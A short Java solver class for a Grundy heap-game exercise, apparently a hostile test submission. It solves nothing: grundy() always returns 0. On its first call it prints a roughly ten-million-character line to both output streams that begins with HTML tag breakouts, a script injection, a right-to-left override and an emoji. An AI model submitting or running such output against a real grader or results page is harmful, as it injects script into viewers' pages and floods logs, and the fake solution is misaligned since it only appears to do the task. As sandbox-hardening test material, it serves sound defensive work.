import grundy.exercises.HeapGameSolver;
import grundy.exercises.Move;
import java.util.List;
import java.util.Optional;

/** Prints lines of ten million letters, that begin and end in what could break a page. */
public class Solver implements HeapGameSolver {

    private static final String LINE = "</bdi></pre><script>document.title = 'owned'</script>\u202E\uD83D\uDE00"
            + "<b>W</b>".repeat(1_250_000) + "</html>";

    private boolean said;

    @Override
    public int grundy(int heap) {
        if (!said) {
            said = true;
            System.out.println(LINE);
            System.err.println(LINE);
        }
        return 0;
    }

    @Override
    public Optional<Move> winningMove(List<Integer> heaps) {
        return Optional.empty();
    }
}
